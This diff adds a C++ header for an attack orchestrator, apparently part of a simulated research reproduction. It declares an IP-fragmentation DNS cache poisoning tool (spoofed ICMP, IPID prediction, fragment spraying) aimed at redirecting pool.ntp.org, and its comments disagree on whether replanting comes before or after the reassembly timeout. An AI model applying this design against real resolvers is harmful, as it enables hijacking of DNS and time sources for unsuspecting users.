@@ -1,0 +1,89 @@
+// Defragmentation-cache poisoning orchestrator (§III + §IV-A option 3).
+//
+// Pipeline: force a small path MTU at the nameserver (spoofed ICMP) →
+// fetch a response template by querying the nameserver directly → craft
+// the spoofed second fragment → measure the IPID counter → plant a spray
+// of fragments in the victim resolver's defragmentation cache, replanting
+// every `replant_interval` (< the resolver OS's reassembly timeout) so a
+// spoofed fragment is always waiting when the victim's query finally
+// triggers the genuine response. "This approach requires a low attack
+// volume which can be completed with only one low bandwidth attacking
+// host."
+#pragma once
+
+#include <functional>
+#include <optional>
+
+#include "attack/fragment_crafter.h"
+#include "attack/ipid_predictor.h"
+
+namespace dnstime::attack {
+
+struct PoisonerConfig {
+  Ipv4Addr ns_addr;
+  Ipv4Addr resolver_addr;
+  u16 mtu = 296;
+  std::vector<Ipv4Addr> malicious_addrs;
+  /// Question used to fetch the template and to aim the poisoning at.
+  dns::DnsName target_name = dns::DnsName::from_string("pool.ntp.org");
+  /// Fragment replant cadence. Chosen just *past* the victim's reassembly
+  /// timeout (30 s Linux / 60-120 s Windows): a duplicate fragment planted
+  /// while the old cache entry is still alive is a no-op that does not
+  /// extend the entry's lifetime, so replanting early merely guarantees a
+  /// coverage hole when the old entry expires. Replanting right after
+  /// expiry keeps the window fresh with a hole of at most a second or two
+  /// per cycle.
+  sim::Duration replant_interval = sim::Duration::seconds(31);
+  /// Candidate IPIDs per replant round (bounded by the victim's per-pair
+  /// fragment-cache cap: 64 Linux / 100 Windows).
+  std::size_t spray_width = 16;
+  IpidProber::Config ipid;
+};
+
+class CachePoisoner {
+ public:
+  CachePoisoner(net::NetStack& attacker, PoisonerConfig config);
+  ~CachePoisoner();
+
+  CachePoisoner(const CachePoisoner&) = delete;
+  CachePoisoner& operator=(const CachePoisoner&) = delete;
+
+  /// Run the pipeline; `on_armed` fires after the first spray is planted.
+  void start(std::function<void()> on_armed = nullptr);
+  void stop();
+
+  [[nodiscard]] bool armed() const { return armed_; }
+  [[nodiscard]] u64 fragments_planted() const { return planted_; }
+  [[nodiscard]] u64 replant_rounds() const { return rounds_; }
+  [[nodiscard]] const std::optional<CraftedFragment>& crafted() const {
+    return crafted_;
+  }
+  [[nodiscard]] const IpidPrediction& prediction() const {
+    return prediction_;
+  }
+
+  /// RD=0 probe against an *open* victim resolver: reports whether `name`
+  /// currently resolves (from cache) to one of our malicious addresses.
+  void verify_poisoned(const dns::DnsName& name,
+                       std::function<void(bool poisoned)> done);
+
+ private:
+  void fetch_template();
+  void measure_ipid();
+  void replant();
+
+  net::NetStack& stack_;
+  PoisonerConfig config_;
+  Bytes template_response_;
+  std::optional<CraftedFragment> crafted_;
+  IpidPrediction prediction_;
+  std::unique_ptr<IpidProber> prober_;
+  sim::EventHandle replant_event_;
+  std::function<void()> on_armed_;
+  bool running_ = false;
+  bool armed_ = false;
+  u64 planted_ = 0;
+  u64 rounds_ = 0;
+};
+
+}  // namespace dnstime::attack
